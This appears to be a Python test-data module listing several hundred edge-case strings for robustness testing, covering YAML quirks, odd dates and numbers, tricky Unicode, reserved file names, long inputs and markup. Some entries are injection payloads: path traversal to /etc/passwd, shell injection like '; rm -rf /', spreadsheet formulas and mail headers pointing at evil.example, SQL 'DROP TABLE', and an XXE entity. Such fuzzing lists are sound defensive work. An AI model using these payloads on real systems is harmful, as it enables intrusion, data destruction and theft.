"""Words that programs stumble over: several hundred, by what they try."""

from itertools import product

_YAML = (
    "no", "No", "NO", "yes", "on", "off", "true", "False", "null", "Null", "~", "-", "--", "---", "...", "- a", "? a",
    ": a", "a: b", "a:", ":", "#", "# a", "a # b", "a #b", "&a", "*a", "!a", "!!int 1", "!!python/object:os.system a",
    "|", ">", "|-", ">+", "%YAML 1.2", "@a", "`a`", "{", "}", "{}", "{a: b}", "[", "]", "[]", "[a, b]", "<<",
    "<<: *a",
    "'", "''", '"', '""', "'a", '"a', "a'b", '"a" b', "\\", "\\n", "\\x00", '"\\x00"', '"\\uD800"', '"\\u202e"', "=",
    "0o14", "014", "1_000", "0x1F", "1e3", ".5", "1.", "+1", "-0", ".inf", "-.INF", ".nan", "1:30", "190:20:30.15",
    "2020-02-30", "2020-01-31T00:00:00Z", "2020-1-1", "1.10", "01", "\t", "a\tb", " a", "a ", "", " ", "\n", "a\nb",
    "a\n\nb", "a\r\nb", "a\rb", "- a\n- b", "a: b\nc: d", "---\na: b\n---", "? [a]\n: b", "a: &b c\nd: *b",
)  # fmt: skip
_NUMBERS_AND_DATES = (
    "0", "-1", "1", "9" * 20, "9" * 5000, "1" + "0" * 400, "1e400", "1e-400", "NaN", "Infinity", "-Infinity", "1,000",
    "1.000,00", "½", "²", "٣", "௧", "１２", "Ⅷ", "0.1e1", "--1", "1/0", "0x", "1__0", "１,000", "1,,0", ",", "1.2.3",
    "30 February 2020", "31 April 2020", "29 February 2021", "0 January 2020", "32 May 2020", "1 January 0000",
    "January 99999", "Winter 2020", "Winter 2019/21", "Q5 2020", "Q0 2019/20", "2019/20/21", "9999", "0000", "10000",
    "31 December 9999", "December 9999", "Winter 9999/00", "Q4 9999/00", "2020-13-01", "2020-00-00", "99/99/9999",
    "tomorrow", "1st of May", "ſpring 2020", "１４ February 2020", "May", "may 2020", "MAY 2020", "Spring  2020",
)  # fmt: skip
_UNICODE = (
    "é", "e\u0301", "ﬁ", "ß", "ẞ", "İ", "ı", "ſ", "K", "Å", "Ω", "ǅ", "\u0130stanbul", "ŵyr", "ʻOkina", "ﷺ",
    "𝒜", "字",
    "日本語", "ไทย", "한국어", "ᄒ\u1161ᆫ", "नमस्ते", "العربية", "שלום", "العربية 123 abc", "abc שלום def",
    "\u200eabc",
    "\u200fabc", "\u202aabc\u202c", "\u202eabc", "\u2066abc\u2069", "\u061cabc", "a\u200bb", "a\u200cb", "a\u200db",
    "a\u2060b", "a\ufeffb", "\ufeff", "a\u00adb", "a\u034fb", "\u00a0", "a\u00a0b", "\u3000", "a\u2003b", "a\u2028b",
    "a\u2029b", "a\u0085b", "a\u000bb", "a\u000cb", "a\x00b", "\x00", "a\x01b", "a\x07b", "a\x08b", "a\x1bb",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x7fb", "a\x80b", "a\x9bb", "\ufffe", "\uffff", "\U0010ffff",
    "\ue000",
    "\U000e0041", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "👍", "👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧",
    "1️⃣", "☃︎", "☃️", "🫨",
    "Z" + "\u0300" * 60, "\u0300", "a" + "\u20dd", "\u2068\u2069", "ａｂｃ", "ⓐⓑⓒ", "𝕬𝖇𝖈", "аdmin", "pаypal",
    "‹›", "“quoted”",
    "‘x’", "…", "–", "—", "•", "· a", "№", "™", "\ufffd", "�", "⟨", "␀", "\u115f", "\u3164", "\u2800", "\u180e",
)  # fmt: skip
_LONG = (
    "a" * 255, "a" * 300, "a" * 5_000, "a" * 19_000, "a b " * 4_000, "字" * 6_000, "👍" * 2_000, "Llanfair" * 40,
    "-" * 500,
    "." * 500, "/" * 500, "(" * 500, "[" * 500, "*" * 500, "_" * 500, "`" * 500, "{" * 500, ">" * 500, "#" * 500,
    "a\n" * 1_000, "a" * 25_000, "\\" * 500, "&" * 500, "<" * 500, "|" * 500, "~" * 500, "a-" * 300, "1" * 500,
)  # fmt: skip
_NAMES = tuple(
    f"{name}{ending}"
    for name, ending in product(
        ("con", "CON", "nul", "aux", "prn", "com1", "LPT9", "conin$", "clock$"), ("", ".md", " ")
    )
)
_PATHS = (
    ".", "..", "...", "../", "../..", "../../../../etc/passwd", "..\\..\\windows", "/", "/etc/passwd",
    "//server/share",
    "\\\\server\\share", "C:", "C:\\", "C:/a", "c:a", "file:///etc/passwd", "a/../b", "a//b", "./a", "a/./b", "a\\b",
    "%2e%2e%2f", "%2e%2e/", "..%2f", "%00", "a%00b", "..;/", "....//", "~", "~root", "$HOME", "%PATH%", "${HOME}",
    "`id`", "$(id)", "; rm -rf /", "| cat /etc/passwd", "&& id", "a;b", "a&b", "a|b", "-rf", "--help", "-o/etc/a",
    ".git/config", ".golden", ".htaccess", "web.config", "index.html", "404.html", "robots.txt", "assets", "_headers",
    "a.", "a ", " a", "a:b", "a::$DATA", "a*b", "a?b", "a<b", 'a"b', "A", "a", "images/../../a", "a\u2215b",
    "a\uff0fb",
    "..\u2216", "\u2024\u2024/", "a/", "/a/", "desktop.ini", "thumbs.db", "CON/a", "a/nul", "a" * 260 + ".md",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")",
    "%0a=1",
    "=IMPORTXML(\"//evil.example\",\"//a\")", ";=1", ",=1", "\"=1\"", "'=1", "＝1+1", "DDE(\"cmd\")", "|=1", "a\n=1",
)  # fmt: skip
_OTHER_TONGUES = (
    "' OR 1=1 --", "'; DROP TABLE actions; --", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "admin'--",
    "1 UNION SELECT 1",
    "%s", "%d%n", "%(a)s", "{0}", "{a}", "{{a}}", "{{ a }}", "{% a %}", "{# a #}", "{{{{", "${a}", "#{a}", "<%a%>",
    "$a$", "\\documentclass{a}", "\\input{/etc/passwd}", "#let a = 1", "#import \"/etc/passwd\": a", "#read(\"a\")",
    "<a>", "<!-- a -->", "<![CDATA[a]]>", "<?xml?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "&b;",
    "&lt;", "&amp;amp;", "&#0;", "&#x110000;", "&#xD800;", "&#x202E;", "&#13;", "&nbsp;", "&unknown;", "&",
    "&&", "<", ">",
    "Subject: a\r\nBcc: b@evil.example", "a\nBcc: b@evil.example", "a%0d%0aBcc: b", "=?utf-8?q?a?=",
    "=?utf-8?b?AAAA?=",
    "a@b", "a@b@c", "\"a\"@b", "<a@b>", "a b@c", "@", "a@", "@a", "mailto:a@b", "tel:", "tel:abc", "javascript:a",
    "https://", "https://a b", "https://[", "https://a:b", "http://0x7f.1", "//a", "www.a", "https://字.example",
    "https://a.example/" + "b" * 3_000, "xn--a", "https://xn--a.example", "https://\u202ea.example", "data:,a",
    "a:b:c",
    "None", "nil", "undefined", "NaN", "[object Object]", "__proto__", "constructor", "__class__", "self", "this",
    "toString", "hasOwnProperty", "id", "for", "due", "staff", "residents", "text", "site", "page", "theme", "class",
    "{#a}", "{#}", "{#a", "#a}", "{for=staff}", "{for=}", "for=staff", "{due=\"a}", "{#a #b}", "{a=b=c}",
    ":::", "::: a",
    "::: staff\na\n:::", "::::", ": ::", "[^1]", "[^1]: a", "[a]: b", "[a][b]", "[a](b", "[](a)", "[a]()",
    "![](a)", "[ ]",
    "1.", "1) a", "999999999999. a", "- ", "* * *", "===", "a\n===", "a\n---", "    a", "```", "```\na", "~~~",
    "| a |",
    "| a |\n|-|", "|-|", "> a", ">", ">>>> a", "**", "**a", "*a**", "__a", "~~", "\\*", "\\", "a\\\nb",
    "a  \nb", "<a@b.c>",
    "## Completed", "## a\n\n- b", "# a", "#hashtag", "••", "• a", "– a", "o a", "\u00b7 a", "→",
    "a" + "\t" * 50 + "b",
)  # fmt: skip

STRINGS = tuple(
    dict.fromkeys(
        (*_YAML, *_NUMBERS_AND_DATES, *_UNICODE, *_LONG, *_NAMES, *_PATHS, *_FORMULAS, *_OTHER_TONGUES),
    )
)
